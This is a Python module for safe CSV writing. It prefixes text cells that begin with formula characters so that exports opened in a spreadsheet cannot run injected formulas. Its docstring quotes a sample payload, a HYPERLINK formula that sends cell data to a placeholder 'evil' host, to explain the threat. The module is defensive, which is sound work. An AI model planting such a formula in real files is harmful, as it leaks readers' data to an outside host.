"""The one way we write CSV: every file a person may open in a spreadsheet (agency exports, the statement print-vendor
file, report downloads) goes through `writer` or `DictWriter` here, so that no cell can run as a formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return are read past
by some of them, so they count too): a patient named `=HYPERLINK("http://evil/?"&A1,"x")` would otherwise send the
reader's data away when the file is opened. Such text cells get a leading single quote (OWASP's recommendation),
which spreadsheets show as text and other readers see as one extra character.

Only text is neutralised, decided by the Python type of the value: numbers (Decimal, int, float) and dates are
written as they are, so a negative amount such as -12.50 stays a number. A caller that formats a number to text
first (cents, a fixed number of places) marks it with `Number` so that it is not mistaken for text."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# What a spreadsheet may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Number(str):
    """Text written from a number or a date by the caller (e.g. an amount as "-12.50" or in cents): not neutralised."""

    __slots__ = ()


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell that cannot start a formula: text starting with = + - @ tab or CR gets a leading quote;
    numbers, dates, None and `Number` text are returned unchanged."""
    if isinstance(value, str) and not isinstance(value, Number) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer's interface (writerow, writerows, dialect) with every cell passed through safe_cell."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    @property
    def dialect(self) -> Any:
        return self._inner.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **kwargs: Any) -> _SafeWriter:
    """A csv.writer (same keyword arguments) whose cells cannot start a formula."""
    return _SafeWriter(csv.writer(f, **kwargs))


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose cells (the header too) cannot start a formula."""

    def __init__(self, f: Any, fieldnames: list[str], **kwargs: Any) -> None:
        super().__init__(f, fieldnames, **kwargs)
        self.writer = _SafeWriter(self.writer)  # writeheader, writerow and writerows all write through it
